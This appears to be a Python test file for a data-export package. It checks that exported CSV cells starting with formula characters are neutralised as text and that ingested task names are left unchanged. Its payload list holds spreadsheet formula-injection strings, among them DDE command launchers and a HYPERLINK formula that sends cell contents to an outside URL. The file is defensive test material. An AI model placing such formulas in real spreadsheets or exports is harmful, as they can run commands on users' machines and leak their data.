"""Names that a spreadsheet would run are text in every table that is exported for one."""

from __future__ import annotations

import csv

from typer.testing import CliRunner

from confounds import export
from confounds.cli import app
from confounds.ingest import read_outcomes

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001
)


def test_exported_cells_are_text(tmp_path, hostile, monkeypatch):
    monkeypatch.setattr(export, "_figures", lambda _: {})
    outcomes, audits = hostile(*PAYLOADS)
    export.export_audits(audits, tmp_path, outcomes=outcomes)
    cells = []
    for path in tmp_path.rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]
    for payload in PAYLOADS:
        assert [cell for cell in cells if cell.startswith(f"'{payload}")], payload


def test_ingested_tables_keep_names_as_they_are(tmp_path):
    """They are the package's own format, read again by it: a mark would make other names."""
    path, out = tmp_path / "t.csv", tmp_path / "out.csv"
    path.write_text('task,metric,model,score,n\n"=1+1",accuracy,@m,0.5,10\n')
    assert CliRunner().invoke(app, ["ingest", str(path), "--out", str(out)]).exit_code == 0
    assert read_outcomes(out).tasks == ("=1+1",)


def is_number(cell: str) -> bool:
    """Numbers may begin with a sign."""
    try:
        float(cell)
    except ValueError:
        return False
    return True
